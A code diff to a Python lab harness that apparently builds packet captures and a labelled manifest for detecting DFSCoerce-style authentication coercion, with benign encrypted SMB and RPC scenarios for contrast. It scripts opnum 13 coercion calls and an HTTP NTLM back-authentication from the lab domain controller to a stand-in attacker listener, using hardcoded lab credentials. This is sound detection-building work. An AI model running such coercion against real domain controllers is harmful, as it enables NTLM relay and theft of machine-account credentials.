@@ -28,6 +28,7 @@ DC_V4, DC_V6, ATTACKER_V4, ATTACKER_V6, CLIENT_V4 = "10.0.0.10", "fd00::10", "10
 USER, PASSWORD, DOMAIN = "labuser", "Passw0rd!", "LAB"
 MACHINE_ACCOUNT = "DC01$"           # the coerced DC authenticates as its machine account
 MACHINE_PASSWORD = "MachinePassw0rd"
+HTTP_LISTENER_PORT = 8080           # the WebDAV listener of the HTTP back-authentication
 BACK_AUTH_DELAY = 0.03              # Windows calls back tens of ms after the coercion call
 SMALL_MTU = 300                     # attacker link MTU for the small-segments scenario (MSS 260)
 LONG_LISTENER = "coerce-listener-" + "x" * 40 + ".attacker.lab.example"
@@ -77,7 +78,11 @@ class Scenario:
     mirror_vlan: int | None = None       # capture the forwarder's 802.1Q mirror instead of dc eth0
     attacker_mtu: int | None = None
     midstream: bool = False
-    back_auth: bool = False
+    back_auth: str = ""                  # "smb" or "http": the coerced DC authenticates back to the attacker
+    benign_ns: str = "client"            # where the benign commands run
+    file_server: bool = False            # impacket smbserver in "client" (the dc's daily file server)
+    encrypted: bool = False              # benign traffic inside SMB3 encryption (manifest "encrypted")
+    dialect: str = "SMB 3.1.1 (Samba client default)"   # benign captures' dialect, for the manifest
     listener: str = ""                   # ServerName sent; default: the attacker's own address
     made_by: str = ""
 
@@ -140,11 +145,43 @@ SCENARIOS = [
                      ["rpcclient", "-U", f"{DOMAIN}/{USER}%{PASSWORD}", DC_V4, "-c", "netshareenum; lsaquery"]]),
     Scenario("coerced-auth-clear",
              "opnum 13 over SMB 2.1, then DC01$ authenticates back over SMB (NTLMSSP) to 10.0.0.66",
-             attack("--dialect", "2.1", "--opnums", "13"), back_auth=True),
+             attack("--dialect", "2.1", "--opnums", "13"), back_auth="smb"),
     Scenario("coerced-auth-encrypted",
              "opnum 13 inside encrypted SMB 3.1.1 (server smb encrypt = desired), then DC01$ authenticates back "
              "over SMB (NTLMSSP, clear) to 10.0.0.66",
-             attack("--dialect", "default", "--opnums", "13"), encrypt="desired", back_auth=True),
+             attack("--dialect", "default", "--opnums", "13"), encrypt="desired", back_auth="smb"),
+    Scenario("coerced-auth-http",
+             f"opnum 13 over SMB 2.1 naming a WebDAV listener ({ATTACKER_V4}@{HTTP_LISTENER_PORT}/x), then curl "
+             f"in dc authenticates back as DC01$ with HTTP NTLM (PROPFIND) to a listener on {ATTACKER_V4}:"
+             f"{HTTP_LISTENER_PORT}",
+             attack("--dialect", "2.1", "--opnums", "13"), back_auth="http",
+             listener=f"{ATTACKER_V4}@{HTTP_LISTENER_PORT}/x"),
+    Scenario("benign-encrypted-smbclient",
+             "smbclient -L (clear: SMB 2.1; a 3.x session is encrypted when the server desires it, whatever the "
+             "client asks), then smbclient --client-protection=encrypt put/get of a 4 KB file "
+             "(server smb encrypt = desired)",
+             benign=[["smbclient", "-L", f"//{DC_V4}", "-U", f"{DOMAIN}/{USER}%{PASSWORD}", "-m", "SMB2_10"],
+                     ["smbclient", f"//{DC_V4}/share", "-U", f"{DOMAIN}/{USER}%{PASSWORD}",
+                      "--client-protection=encrypt", "-c",
+                      "put {work}/small.txt small.txt; get small.txt {work}/small.back; ls"]],
+             encrypt="desired", encrypted=True),
+    Scenario("benign-encrypted-rpc",
+             "smbclient -L (clear: SMB 2.1; rpcclient ignores -m); rpcclient --client-protection=encrypt srvsvc netshareenum, srvinfo, "
+             "lsarpc lsaquery, lookupnames, samr enumdomusers; impacket (encrypts by itself) lsarpc "
+             "LsarOpenPolicy2 + LsarQueryInformationPolicy2, srvsvc NetrShareEnum, samr SamrConnect",
+             benign=[["smbclient", "-L", f"//{DC_V4}", "-U", f"{DOMAIN}/{USER}%{PASSWORD}", "-m", "SMB2_10"],
+                     ["rpcclient", "-U", f"{DOMAIN}/{USER}%{PASSWORD}", "--client-protection=encrypt", DC_V4,
+                      "-c", "netshareenum; srvinfo; lsaquery; lookupnames labuser; enumdomusers"],
+                     ["{python}", "{lab}/benign_rpc_client.py", "--target", DC_V4]],
+             encrypt="desired", encrypted=True),
+    Scenario("benign-machine-auth",
+             f"dc's machine account DC01$ lists shares on (smbclient -L: srvsvc in clear) and reads its daily "
+             f"file server (impacket smbserver in client, {CLIENT_V4}); no inbound session to dc before it",
+             benign=[["smbclient", "-L", f"//{CLIENT_V4}", "-U", f"{DOMAIN}/{MACHINE_ACCOUNT}%{MACHINE_PASSWORD}",
+                      "-m", "SMB3"],
+                     ["smbclient", f"//{CLIENT_V4}/share", "-U", f"{DOMAIN}/{MACHINE_ACCOUNT}%{MACHINE_PASSWORD}",
+                      "-m", "SMB3", "-c", "ls"]],
+             benign_ns="dc", file_server=True, dialect="SMB 3.1.1 (impacket smbserver)"),
 ]
 
 
@@ -246,17 +283,17 @@ def set_attacker_mtu(mtu: int) -> None:
     sh("ip", "-n", "wire", "link", "set", "w-att", "mtu", str(mtu))
 
 
-class BackAuthListener:
-    """impacket's smbserver in "attacker": the listener the coerced DC authenticates to."""
+class SmbListener:
+    """impacket's smbserver in a namespace: the coercion listener in "attacker", or a file server."""
 
-    def __init__(self, work: Path):
-        share = work / "attacker-share"
+    def __init__(self, work: Path, ns: str = "attacker"):
+        share = work / f"{ns}-share"
         share.mkdir(parents=True, exist_ok=True)
         smbserver = Path(sys.executable).parent / "smbserver.py"
-        self.log = open(work / "smbserver.log", "w")
-        self.proc = subprocess.Popen(in_ns("attacker", sys.executable, str(smbserver), "-smb2support",
+        self.log = open(work / f"smbserver-{ns}.log", "w")
+        self.proc = subprocess.Popen(in_ns(ns, sys.executable, str(smbserver), "-smb2support",
                                            "share", str(share)), stdout=self.log, stderr=self.log)
-        wait_listening("attacker", 445)
+        wait_listening(ns, 445)
 
     def authenticate_back(self) -> None:
         """What the coerced DC does: connect to \\\\<listener> with its machine account."""
@@ -269,7 +306,27 @@ class BackAuthListener:
         self.proc.wait(10)
 
 
-def run_attack(sc: Scenario, work: Path, out: Path, back_auth: BackAuthListener | None) -> tuple[list[dict], Path]:
+class HttpListener:
+    """ntlm_http_listener.py in "attacker": a WebDAV listener asking for NTLM."""
+
+    def __init__(self, work: Path):
+        self.log = open(work / "http-listener.log", "w")
+        self.proc = subprocess.Popen(in_ns("attacker", sys.executable, str(LAB / "ntlm_http_listener.py"),
+                                           "--port", str(HTTP_LISTENER_PORT)), stdout=self.log, stderr=self.log)
+        wait_listening("attacker", HTTP_LISTENER_PORT)
+
+    def authenticate_back(self) -> None:
+        """What a coerced DC's WebClient does: PROPFIND with NTLM as its machine account."""
+        subprocess.run(in_ns("dc", "curl", "-s", "-o", "/dev/null", "--ntlm", "-u",
+                             f"{DOMAIN}\\{MACHINE_ACCOUNT}:{MACHINE_PASSWORD}", "-X", "PROPFIND",
+                             f"http://{ATTACKER_V4}:{HTTP_LISTENER_PORT}/x"), capture_output=True, timeout=30)
+
+    def stop(self) -> None:
+        self.proc.terminate()
+        self.proc.wait(10)
+
+
+def run_attack(sc: Scenario, work: Path, out: Path, back_auth: SmbListener | HttpListener | None) -> tuple[list[dict], Path]:
     listener = sc.listener or (ATTACKER_V6 if sc.target == DC_V6 else ATTACKER_V4)
     cmd = [sys.executable, str(LAB / "dfscoerce_client.py"), "--target", sc.target, "--listener", listener,
            *sc.client]
@@ -317,8 +374,8 @@ def run_benign(sc: Scenario, work: Path, out: Path) -> Path:
     try:
         for cmd in sc.benign:
             # exit status ignored: rpcclient fails a command Samba refuses, the traffic is what counts
-            subprocess.run(in_ns("client", *[c.replace("{work}", str(work)) for c in cmd]), capture_output=True,
-                           timeout=60)
+            subprocess.run(in_ns(sc.benign_ns, *[c.format(work=work, python=sys.executable, lab=LAB) for c in cmd]),
+                           capture_output=True, timeout=60, env={**os.environ, "PYTHONPATH": str(REPO)})
     finally:
         capture.stop()
     return capture.path
@@ -341,8 +398,8 @@ def manifest_entry(sc: Scenario, pcap: Path, calls: list[dict]) -> dict:
                                              "client_ip", "client_port", "server_ip", "server_port", "ts", "frame")}
                           for c in located]
     else:
-        entry["dialect"] = "SMB 3.1.1 (Samba client default)"
-        entry["encrypted"] = False
+        entry["dialect"] = sc.dialect
+        entry["encrypted"] = sc.encrypted
         entry["calls"] = []
         entry["observed_requests"] = groundtruth.observed_calls(str(pcap))
     if sc.back_auth:
@@ -358,7 +415,8 @@ def run(sc: Scenario, work: Path, out: Path, samba: Samba) -> dict:
     forwarder = Forwarder(sc.forwarder, sc.mirror_vlan) if sc.forwarder is not None else None
     if sc.attacker_mtu:
         set_attacker_mtu(sc.attacker_mtu)
-    back_auth = BackAuthListener(work) if sc.back_auth else None
+    back_auth = {"smb": SmbListener, "http": HttpListener}[sc.back_auth](work) if sc.back_auth else None
+    file_server = SmbListener(work, "client") if sc.file_server else None
     try:
         if sc.client:
             calls, pcap = run_attack(sc, work, out, back_auth)
@@ -367,6 +425,8 @@ def run(sc: Scenario, work: Path, out: Path, samba: Samba) -> dict:
     finally:
         if back_auth:
             back_auth.stop()
+        if file_server:
+            file_server.stop()
         if sc.attacker_mtu:
             set_attacker_mtu(1500)
         if forwarder:
